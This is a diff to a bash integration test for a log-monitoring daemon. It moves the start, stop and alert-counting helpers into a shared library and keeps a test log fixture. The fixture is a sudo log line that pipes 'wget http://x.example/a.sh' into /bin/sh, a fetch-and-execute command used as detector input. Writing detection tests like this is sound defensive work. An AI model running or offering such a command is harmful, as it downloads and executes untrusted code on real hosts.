@@ -10,12 +10,8 @@ tmp=$(mktemp -d)
 daemon=
 trap '[ -n "$daemon" ] && kill -9 "$daemon" 2>/dev/null; rm -rf "$tmp"' EXIT
 fail() { echo "FAIL: $*" >&2; exit 1; }
+source "$(dirname "$0")/lib.bash"
 line='<86>Jul  8 16:08:00 h1 sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/wget http://x.example/a.sh | /bin/sh'
-alerts() { [ -f "$tmp/alerts.jsonl" ] && wc -l < "$tmp/alerts.jsonl" || echo 0; }
-wait_alerts() {
-  for _ in $(seq 100); do [ "$(alerts)" -ge "$1" ] && break; sleep 0.1; done
-  [ "$(alerts)" = "$1" ] || fail "expected $1 alerts, got $(alerts): $(cat "$tmp/err")"
-}
 cat > "$tmp/config.yaml" <<EOF
 metrics: {listen: ""}
 parsers: {year: 2024}
@@ -25,15 +21,6 @@ detectors: {ioc: {enabled: false}}
 sinks:
   - {type: file, path: $tmp/alerts.jsonl}
 EOF
-start() {
-  "$bin" run --config "$tmp/config.yaml" > /dev/null 2>> "$tmp/err" &
-  daemon=$!
-}
-stop() {
-  kill -TERM "$daemon"
-  wait "$daemon" || fail "exit status $? after SIGTERM: $(cat "$tmp/err")"
-  daemon=
-}
 echo "$line" > "$tmp/auth.log"
 before=$(stat -c %i "$tmp/auth.log")
 start
